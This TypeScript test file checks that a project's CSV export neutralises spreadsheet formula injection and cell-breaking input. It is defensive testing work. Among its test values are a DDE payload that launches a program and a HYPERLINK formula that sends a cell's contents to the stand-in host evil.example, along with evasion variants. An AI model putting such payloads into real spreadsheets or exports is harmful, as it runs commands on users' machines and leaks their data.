/** Nothing that the hub exports is run by the spreadsheet program that opens it. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvText } from '../../schema/csv.ts';
import { projectRoot } from '../../schema/project-root.ts';
import { readImportGraph } from '../architecture/import-graph.ts';

const cellsOf = (text: string): string[][] => parse(text, { relax_column_count: true });

describe('A cell of an export', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' ＝1',
    '|calc',
    '%0A=1',
  ])('is shown as text: %j', (cell) => {
    expect(cellsOf(csvText([[cell, 'x']]))).toEqual([[`'${cell}`, 'x']]);
  });

  it.each(['贵州示例甲机动车检测有限公司', '2026-03-01', 'a=b', 'a\n=1', '', '"quoted"', 'a,b', '（示例）'])(
    'stays as it is: %j',
    (cell) => {
      expect(cellsOf(csvText([[cell, 'x']]))).toEqual([[cell, 'x']]);
    },
  );

  it('cannot end its cell or its line to begin another', () => {
    const text = csvText([['a","=1+1', 'b\r\n=1+1', 'c\n"=1"'], ['next']]);
    expect(cellsOf(text)).toEqual([['a","=1+1', 'b\r\n=1+1', 'c\n"=1"'], ['next']]);
  });

  it('that is a number stays one, and one that is not there stays empty', () => {
    expect(csvText([[-5, 1.5, null]])).toBe('-5,1.5,\r\n');
  });
});

describe('CSV of the hub', () => {
  it('is written in one place, which escapes formulas', () => {
    const writers = readImportGraph(['schema', 'sources', 'jobs', 'gateway'])
      .map(({ from }) => from)
      .filter((file) => readFileSync(join(projectRoot, file), 'utf8').includes("from 'csv-stringify"));
    // It imports nothing of the hub, so it is not among them itself.
    expect(writers).toEqual([]);
  });
});
